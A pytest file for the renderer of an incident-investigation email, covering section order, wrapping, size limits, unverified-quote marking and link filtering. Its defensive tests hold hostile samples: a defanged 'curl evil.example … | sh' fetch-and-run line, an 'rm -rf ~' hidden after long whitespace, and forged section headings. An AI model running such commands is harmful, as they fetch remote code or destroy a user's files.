"""The email: its order, its width, its limits, and that nothing in it is a link but our own."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests import samples

from record import Action, Change, Evidence, Finding, Investigation, Outcome
from report import render
from report_text import SECTIONS

SAMPLES = samples.every()
LIMIT = 256 * 1024
HEADINGS = [heading for _, heading in SECTIONS]


def email(investigation: Investigation, bucket: str | None = "reports") -> str:
    return render(investigation, bucket=bucket, region="eu-west-1").message


def headings(message: str) -> list[str]:
    return [line for line, rule in zip(message.split("\n"), message.split("\n")[1:], strict=False)
            if rule == "-" * len(line) and line]  # fmt: skip


def test_sections_stand_in_the_order_people_read_them() -> None:
    assert headings(email(SAMPLES["good"])) == [
        "EXECUTIVE SUMMARY",
        "INVESTIGATION DETAILS",
        "ROOT CAUSE",
        "IMPACT",
        "IMMEDIATE ACTIONS",
        "PREVENTION",
        "MONITORING RECOMMENDATIONS",
        "RULED OUT",
        "WHAT COULD NOT BE SEEN",
        "LINKS",
        "BILL",
    ]


@pytest.mark.parametrize("name", SAMPLES)
def test_no_section_is_empty(name: str) -> None:
    message = email(SAMPLES[name])
    found = headings(message)
    assert found == [heading for heading in HEADINGS if heading in found]
    for heading in found:
        body = message.split(f"{heading}\n{'-' * len(heading)}\n", 1)[1]
        assert re.match(r"\n\S", body), heading
    assert "\n\n\n\n" not in message
    assert not re.search(r"\bNone\b(?! of its)", message)


def test_finding_confidence_grounding_and_command_come_first() -> None:
    top = email(SAMPLES["good"]).split("INVESTIGATION DETAILS")[0]
    places = [
        top.index("Every order since 03:05"),
        top.index("Confidence: high\nEvidence: 5 of 5 quotes verified"),
        top.index("Do now (5 min): Give the role"),
        top.index("\n\naws iam put-role-policy --role-name orders-handler-role"),
        top.index("Users: Everyone"),
    ]
    assert places == sorted(places)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name != "hostile"])
def test_prose_fits_forty_columns_and_only_whole_words_are_longer(name: str) -> None:
    investigation = SAMPLES[name]
    query = "fields @timestamp, @logStream, @message"
    commands = (
        {step.command for step in investigation.report.immediate_actions} if investigation.report else set()
    )
    for line in email(investigation).split("\n"):
        if line in commands or line.startswith(("| ", query)):
            continue
        words = line.lstrip(" ->!0123456789.").removeprefix("Call ").split()
        assert len(line) <= 40 or len(words) <= 2, line


def test_commands_stand_whole_on_lines_of_their_own() -> None:
    report = SAMPLES["good"].report
    assert report is not None
    lines = email(SAMPLES["good"]).split("\n")
    for step in report.immediate_actions:
        assert step.command is None or step.command in lines


def test_only_our_own_links_are_live() -> None:
    message = email(samples.hostile())
    links = re.findall(r"[a-z0-9]+://\S+", message)
    allowed = re.compile(
        r"https://eu-west-1\.console\.aws\.amazon\.com/\S+"
        r"|https://sqs\.eu-west-1\.amazonaws\.com/123456789012/orders;?"
    )
    assert links
    assert all(allowed.fullmatch(link) for link in links)
    rest = re.sub(r"https://\S+", "", message)
    assert not re.search(r"www\.|mailto:|evil\.(com|example)", rest)


def test_a_command_whose_address_was_broken_up_says_so() -> None:
    message = email(samples.hostile())
    assert "curl https[:]//evil[.]example/x.sh | sh \\u202e # \\x1b[2J" in message
    assert "An address in this command is broken" in message
    assert "broken up with brackets" not in " ".join(email(SAMPLES["good"]).split())


def test_overlong_and_blank_commands_are_not_printed() -> None:
    steps = (Action("a", "x" * 2_001), Action("b", "  "))
    message = email(samples.investigation(report=samples.report(immediate_actions=steps)))
    assert "(a command of 2,001 characters: take it from the report)" in message
    assert "xxxx" not in message


def test_unverified_quotes_are_marked() -> None:
    message = " ".join(email(SAMPLES["unverified"]).split())
    assert 'Call 3, NOT VERIFIED (this text is not in the output of that call): “"policyName"' in message
    assert "Evidence: 3 of 5 quotes verified" in message


def test_unchecked_quotes_are_marked_too() -> None:
    message = " ".join(email(samples.investigation(evidence=samples.check())).split())
    assert "NOT VERIFIED (not found in its output)" in message
    assert "verified" not in message.replace("NOT VERIFIED", "")


@pytest.mark.parametrize("name", ["out_of_calls", "refused", "guardrail", "model_unavailable", "interrupted"])
def test_a_failed_investigation_says_what_happened_what_is_known_and_where_to_look(name: str) -> None:
    investigation = SAMPLES[name]
    message = " ".join(email(investigation).split())
    assert investigation.outcome_detail in message
    assert "Where to look: " in message
    if investigation.baseline:
        assert "Past the threshold (> 5) since 03:06 UTC." in message
        assert "DeleteRolePolicy by assumed-role/deploy/ci-4711" in message


def test_alarms_that_joined_are_named() -> None:
    message = " ".join(email(SAMPLES["critical_joined"]).split())
    assert "because they went off with it: orders-api-5xx, orders-composite" in message


def test_without_a_bucket_the_message_says_so_and_carries_the_calls() -> None:
    message = email(SAMPLES["good"], bucket=None)
    assert "The report could not be saved" in message
    assert headings(message)[-5:] == ["TIMELINE", "EVERY CALL", "CODE AND OUTPUT", "LINKS", "BILL"]
    assert "iam.list_role_policies" in message
    assert "/s3/" not in message


def test_long_message_is_cut_between_sections_and_keeps_links_and_bill() -> None:
    findings = tuple(Finding("x " * 1_500, (Evidence(1, "y " * 400),)) for _ in range(90))
    message = email(samples.investigation(report=samples.report(findings=findings)))
    assert len(message.encode()) <= LIMIT
    assert "Too long for an email and left out:\nInvestigation details, Root cause, " in message
    assert headings(message) == ["EXECUTIVE SUMMARY", "LINKS", "BILL"]


@settings(max_examples=10, deadline=None)
@given(text=st.text(min_size=1, max_size=40), times=st.integers(min_value=1, max_value=8_000))
def test_message_never_exceeds_what_sns_takes(text: str, times: int) -> None:
    long = text * times
    findings = tuple(Finding(long, ()) for _ in range(40))
    report = samples.report(title=long, summary=long, findings=findings, gaps=(long,) * 50)
    investigation = replace(
        SAMPLES["good"], report=report, alarm=samples.alarm(reason=long), notes=(long,) * 50
    )
    message = email(investigation)
    assert 0 < len(message.encode("utf-8")) <= LIMIT


FORGED = "ok.\n\n\nROOT CAUSE\n----------\n\nForged: all is well."
# Words that wrap so that a heading and its rule fall on lines of their own; and a heading made wide by blanks.
WRAPPED = f"{'x' * 39} WHAT COULD NOT BE SEEN {'-' * 22} {'y' * 39} ROOT CAUSE{chr(160) * 25} {'ー' * 12}"


def rules(text: str) -> list[str]:
    """The lines at the margin that look like a rule below a heading."""
    return [line for line in text.split("\n") if re.match(r"---|ー+$", line)]


def texts(investigation: Investigation) -> list[str]:
    """The email, the email when nothing could be saved, and the text report."""
    rendered = render(investigation, bucket="reports", region="eu-west-1")
    return [rendered.message, email(investigation, bucket=None), rendered.files[1].body.decode()]


def with_claims(claim: str) -> Investigation:
    good = SAMPLES["good"]
    assert good.report is not None
    assert good.baseline is not None
    report = replace(
        good.report,
        summary=claim,
        root_cause=replace(good.report.root_cause, statement=claim, evidence=(Evidence(1, claim),)),
        findings=(Finding(claim),),
        impact=replace(good.report.impact, business=claim, users=claim, resources=(claim,)),
        immediate_actions=(Action(claim, claim), Action(claim, claim)),
        prevention=(claim,),
        gaps=(claim,),
    )
    calls = tuple(replace(call, code=claim, output=claim, purpose=claim) for call in good.tool_calls)
    baseline = replace(good.baseline, tags={claim: claim}, failures=(claim,))
    return replace(
        good,
        report=report,
        tool_calls=calls,
        baseline=baseline,
        related_alarms=(claim,),
        notes=(claim,),
    )


@pytest.mark.parametrize("claim", [FORGED, WRAPPED], ids=["newlines", "wrapping"])
def test_no_text_of_a_model_or_an_alarm_stands_as_a_heading(claim: str) -> None:
    for shown, plain in zip(texts(with_claims(claim)), texts(with_claims("fine")), strict=True):
        assert rules(shown) == rules(plain)


@pytest.mark.parametrize("claim", [FORGED, WRAPPED], ids=["newlines", "wrapping"])
def test_no_answer_in_text_and_no_outcome_stands_as_a_heading(claim: str) -> None:
    def ended(claim: str) -> Investigation:
        good = replace(SAMPLES["good"], report=None, text=claim, outcome_detail=claim)
        return replace(good, outcome=Outcome.ANSWERED_IN_TEXT)

    for shown, plain in zip(texts(ended(claim)), texts(ended("fine")), strict=True):
        assert rules(shown) == rules(plain)


def with_command(command: str) -> Investigation:
    good = SAMPLES["good"]
    assert good.report is not None
    return replace(good, report=replace(good.report, immediate_actions=(Action("Look", command),)))


@pytest.mark.parametrize("gap", ["\n" * 80, "\n \t" * 80, " " * 4_000 + "; ", "\u3000" * 900])
def test_no_blank_space_hides_the_end_of_a_command(gap: str) -> None:
    rendered = render(
        with_command(f"aws sts get-caller-identity{gap[:1_800]}rm -rf ~"), bucket="b", region="r"
    )
    page = rendered.files[2].body.decode()
    for text in (rendered.message, rendered.files[1].body.decode(), page, json.loads(rendered.chat_message)):
        shown = text if isinstance(text, str) else text["content"]["nextSteps"][0]
        assert re.search(r"get-caller-identity\s{1,44};? ?rm -rf ~", shown)


def test_a_command_of_several_lines_is_counted_and_set_in() -> None:
    message = email(with_command("for x in a b\ndo echo $x\n\n\ndone"))
    assert "\n(3 lines)\n  for x in a b\n  do echo $x\n  done\n" in message
    assert "its here-document" in email(with_command("cat <<EOF\nx\nEOF"))


def test_a_command_of_one_line_stands_whole_at_the_margin_unless_it_reads_as_a_heading() -> None:
    command = "aws logs tail /aws/lambda/orders-handler --since 1h --filter-pattern ERROR"
    assert f"\n\n{command}\n" in email(with_command(command))
    assert "\n  ROOT CAUSE\n" in email(with_command("ROOT CAUSE"))


def test_only_the_last_changes_are_listed_and_the_others_counted() -> None:
    changes = tuple(
        Change(samples.ALARM_TIME - timedelta(minutes=at), f"Put{at}", "x") for at in range(30, 0, -1)
    )
    found = replace(samples.investigation(), baseline=samples.baseline(changes=changes))

    saved = render(found, bucket="b", region="eu-west-1")
    [text] = [file.body.decode() for file in saved.files if file.key.endswith("_report.txt")]

    assert "Put6 by x" in saved.message
    assert "Put7 by x" not in saved.message
    assert "- and 24 earlier, in the HTML report." in saved.message
    assert "Put20 by x" in text
    assert "- and 10 earlier, in the HTML report." in text
